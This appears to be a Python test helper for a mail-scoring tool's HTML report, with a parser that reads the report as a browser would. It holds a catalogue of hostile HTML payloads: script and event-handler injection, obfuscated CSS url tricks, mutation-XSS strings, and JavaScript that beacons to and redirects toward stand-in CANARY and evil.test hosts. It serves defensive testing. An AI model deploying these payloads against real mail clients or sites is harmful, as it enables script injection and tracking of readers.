"""What hostile mails try in a report, and the reading of a report as a browser's parser sees it."""

from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

from spamscore import check
from spamscore.cli.checked import Checked
from spamscore.cli.formats import html
from spamscore.cli.formats.terminal import Paint

# CANARY stands for an address on which a test listens. Each mail shows a word that must survive: ALIVE.
HOSTILE = {
    "script": '<p>ALIVE</p><script>CODE</script><script src="CANARY/a.js"></script>',
    "handlers": '<p onclick="CODE" onmouseover="CODE">ALIVE</p><img src=x onerror="CODE"><body onload="CODE"><svg onload="CODE">',
    "pictures": '<p>ALIVE</p><img src="CANARY/a.png"><img srcset="CANARY/b.png 2x"><picture><source srcset="CANARY/c.png"><img></picture>'
    '<input type=image src="CANARY/d.png"><table background="CANARY/e.png"><tr><td>x</table><image src="CANARY/f.png">',
    "styles": '<style>@import "CANARY/a.css"; @import url(CANARY/b.css); @font-face{font-family:f;src:url(CANARY/f.woff)}'
    'p{font-family:f;background:url("CANARY/c.png")} p::before{content:url(CANARY/d.png)} b{background:u\\72l(CANARY/e.png)}'
    'i{background:ur/**/l(CANARY/g.png);background:image-set("CANARY/h.png" 1x)}</style><p><b>ALIVE</b><i style="background:'
    "u\\000072 l('CANARY/i.png');list-style:url(CANARY/j.png);cursor:url(CANARY/k.cur),auto\">y</i></p>",
    "links away": '<p>ALIVE</p><a href="CANARY/a">go</a> <a href="javascript:CODE">run</a> <a href="data:text/html,<script>CODE</script>">'
    'data</a><a target=_top href="CANARY/b">top</a><map><area href="CANARY/c" shape=default></map><a ping="CANARY/p" href="#">ping</a>',
    "refresh and base": '<meta http-equiv=refresh content="0;url=CANARY/r"><base href="CANARY/"><p>ALIVE</p><img src="b.png"><a href=x>x</a>',
    "links in the head": '<link rel=stylesheet href="CANARY/a.css"><link rel=prefetch href="CANARY/b"><link rel=dns-prefetch href="//evil.test">'
    '<link rel=preconnect href="CANARY"><link rel=icon href="CANARY/i.ico"><link rel=modulepreload href="CANARY/m.js"><p>ALIVE</p>',
    "forms": '<p>ALIVE</p><form action="CANARY/f"><input name=a value=b autofocus onfocus="CODE"><button formaction="CANARY/g">send</button>'
    '<input type=submit value=go></form><isindex action="CANARY/h">',
    "frames": '<p>ALIVE</p><iframe src="CANARY/a"></iframe><iframe srcdoc="<script>CODE</script><img src=CANARY/b>"></iframe>'
    '<object data="CANARY/c"></object><embed src="CANARY/d"><frameset><frame src="CANARY/e"></frameset><portal src="CANARY/f"></portal>',
    "media": '<p>ALIVE</p><video src="CANARY/a" poster="CANARY/b" autoplay></video><audio src="CANARY/c" autoplay></audio><track src="CANARY/d">'
    '<bgsound src="CANARY/e">',
    "drawings": '<p>ALIVE</p><svg><script>CODE</script><image href="CANARY/a.png"/><use href="CANARY/b.svg#x"/><foreignObject><img src="CANARY/c.png">'
    '</foreignObject><animate onbegin="CODE" attributeName=x dur=1s /><a xlink:href="javascript:CODE"><text y=20>t</text></a></svg>'
    '<math><mtext></p><mglyph><style><img src="CANARY/d.png" onerror="CODE"></style></mglyph></mtext></math>',
    "out of the frame": '<p>ALIVE</p></body></html>"></iframe><script>CODE</script><img src="CANARY/a.png">\'></iframe>&quot;&gt;&lt;script&gt;CODE&lt;/script&gt;'
    "]]><![CDATA[<script>CODE</script>]]></template></textarea></noscript></title></style></script><img src=CANARY/b.png>",
    "unclosed": '<p>ALIVE</p><style>p{color:red}</style></style><img src="CANARY/a.png"><!-- <img src="CANARY/b.png"> --!><img src=CANARY/c.png><a title="<!--'
    "<script>CODE</script>",
    "mutations": '<p>ALIVE</p><noscript><p title="</noscript><img src=CANARY/a.png onerror=CODE>"></noscript><svg></p><style><a id="</style><img src=CANARY/b.png>">'
    '<form><math><mtext></form><form><mglyph><style></math><img src=CANARY/c.png onerror="CODE">',
    "control characters": "<p>ALIVE</p>\x00<scr\x00ipt>CODE</scr\x00ipt><img\x0bsrc=CANARY/a.png>\u202e\u2066<img\x0csrc=CANARY/b.png>\x1b]8;;\x07\ufffe",
    "placeholders": '<p>ALIVE {{ "<script>CODE</script>" }} {% if "<img src=CANARY/a.png>" %}x{% endif %} <%= "</iframe><script>CODE</script>" %></p>',
    "imitations": '<p>ALIVE</p><p class="ss-mark ss-image" data-ss="1" style="position:fixed;inset:0;background:-webkit-image-set(url(CANARY/a.png) 1x)">x</p>'
    "<style>[data-ss]::before{content:url(CANARY/b.png)!important}</style>",
    "speculation": '<p>ALIVE</p><script type=speculationrules>{"prefetch":[{"source":"list","urls":["CANARY/s"]}]}</script>'
    '<a href="CANARY/t" attributionsrc="CANARY/u" rel=prerender>x</a><script type=importmap>{"imports":{"a":"CANARY/m.js"}}</script>',
}  # fmt: skip
CODE = (
    "document.title=&#39;ran&#39;;try{top.document.title=&#39;ran&#39;}catch(e){}try{parent.postMessage(&#39;ran&#39;,&#39;*&#39;)}"
    "catch(e){}new Image().src=&#39;CANARY/ran&#39;;alert(1);open(&#39;CANARY/open&#39;);top.location=&#39;CANARY/top&#39;"
)


def hostile(name: str, canary: str) -> str:
    """One hostile mail that would call on an address."""
    source = HOSTILE[name]
    inside_script = CODE.replace("&#39;", "'")
    source = source.replace(">CODE<", f">{inside_script}<").replace("CODE", CODE)
    return source.replace("CANARY", canary)


def checked(name: str, source: str, **more: object) -> Checked:
    """A mail as the command hands it over."""
    return Checked(name, check(source), source=source, **more)  # type: ignore[arg-type]  # the fields of Checked


def page(*results: Checked) -> str:
    """The report on these mails."""
    return "\n".join(html.lines(results, Paint()))


def file(path: str) -> Checked:
    """A mail in a file, as the command hands it over."""
    return Checked(path, check(Path(path)))


@dataclass
class Seen(HTMLParser):
    """What stands in a document: elements with their attributes, and the text of each kind of element."""

    elements: list[tuple[str, dict[str, str]]] = field(default_factory=list)
    texts: dict[str, list[str]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self._open: list[str] = []

    @classmethod
    def of(cls, document: str) -> "Seen":
        """A document as seen."""
        seen = cls()
        seen.feed(document)
        seen.close()
        return seen

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        while self._open and self._open.pop() != tag:
            pass

    def handle_data(self, data: str) -> None:
        for tag in set(self._open):
            self.texts.setdefault(tag, []).append(data)

    def all(self, tag: str) -> list[dict[str, str]]:
        """The attributes of each element of a kind."""
        return [attributes for name, attributes in self.elements if name == tag]

    def text(self, tag: str) -> str:
        """All text inside elements of a kind."""
        return "".join(self.texts.get(tag, []))
